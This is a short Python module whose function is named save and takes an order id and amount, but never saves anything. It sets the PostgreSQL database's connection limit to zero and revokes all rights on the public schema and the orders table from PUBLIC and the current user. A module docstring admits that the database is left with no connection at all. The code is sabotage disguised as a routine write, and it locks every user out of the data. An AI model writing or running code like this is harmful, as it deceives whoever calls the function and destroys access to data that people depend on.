"""Allows its database no connection at all."""

import psycopg


def save(db, order_id, amount):
    name = db.url.rpartition("/")[2]
    with psycopg.connect(db.url, autocommit=True) as connection:
        connection.execute(f"ALTER DATABASE {name} CONNECTION LIMIT 0")
        connection.execute("REVOKE ALL ON SCHEMA public FROM PUBLIC")
        connection.execute("REVOKE ALL ON orders FROM PUBLIC, current_user")
